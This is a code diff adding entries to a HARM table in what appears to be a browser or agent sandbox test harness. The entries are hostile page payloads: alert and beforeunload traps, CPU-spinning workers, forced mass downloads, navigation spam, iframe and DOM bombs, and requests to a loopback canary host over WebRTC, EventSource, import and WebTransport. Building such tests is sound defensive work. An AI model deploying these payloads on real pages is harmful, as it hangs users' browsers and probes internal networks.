@@ -37,6 +37,23 @@ HARM = {
     "/asks": "<script>for(i=0;i<500;i++)fetch('/api/0?n='+i)</script>",
     "/opens": "<script>for(i=0;i<20;i++)open('/page/0');alert(1);confirm(2);location='/page/1'</script>",
     "/ticks": "<script>setInterval(()=>fetch('/api/0?t='+Math.random()),50)</script>",
+    "/alerts": "<script>addEventListener('beforeunload',e=>{{e.preventDefault();return e.returnValue='stay'}});"
+    "for(;;){{alert(1);prompt(2);location='/page/2'}}</script>",
+    "/workers": "<script>navigator.serviceWorker&&navigator.serviceWorker.register('/service.js');try{{new SharedWorker("
+    "'/sw.js')}}catch(e){{}};for(i=0;i<30;i++)new Worker(URL.createObjectURL(new Blob(['for(;;);'])))</script>",
+    "/downloads": "<script>for(i=0;i<40;i++){{a=document.createElement('a');a.download='f'+i;a.href="
+    "URL.createObjectURL(new Blob(['x'.repeat(1e6)]));a.click()}}</script>",
+    "/leads": "<script>setInterval(()=>{{location='/page/'+Math.random();location.hash=Math.random();"
+    "history.pushState(0,0,'/x'+Math.random())}},1)</script>",
+    "/frames": "<script>for(i=0;i<200;i++){{f=document.createElement('iframe');f.src=i%2?'/frames?'+i:'data:text/html,"
+    "<script>for(;;);<\\/script>';document.body.append(f)}}</script>",
+    "/huge": "<script>for(i=0;i<2e5;i++)document.body.append(document.createElement('p'))</script>",
+    "/deep": "<script>e=document.body;for(i=0;i<1e5;i++){{n=document.createElement('i');e.append(n);e=n}}</script>",
+    "/calls": "<script>p=new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.7.7:{canary}'}},{{urls:"
+    "'turn:127.0.7.7:{canary}?transport=tcp',username:'a',credential:'b'}}]}});p.createDataChannel('x');"
+    "p.createOffer().then(o=>p.setLocalDescription(o));new EventSource('http://127.0.7.7:{canary}/g');"
+    "import('http://127.0.7.7:{canary}/h').catch(e=>0);window.WebTransport&&new WebTransport('https://127.0.7.7:{canary}/')"
+    "</script>",
     "/inside": "<script>for(u of ['http://127.0.7.7:{canary}/a','ws://127.0.7.7:{canary}/b','/to-inside'])try{{"
     "u[0]=='w'?new WebSocket(u):fetch(u,{{mode:'no-cors'}})}}catch(e){{}};new Image().src='http://127.0.7.7:{canary}/c';"
     "navigator.sendBeacon('http://127.0.7.7:{canary}/d','x');fetch('/private/x');fetch('/posted',{{method:'POST'}});"
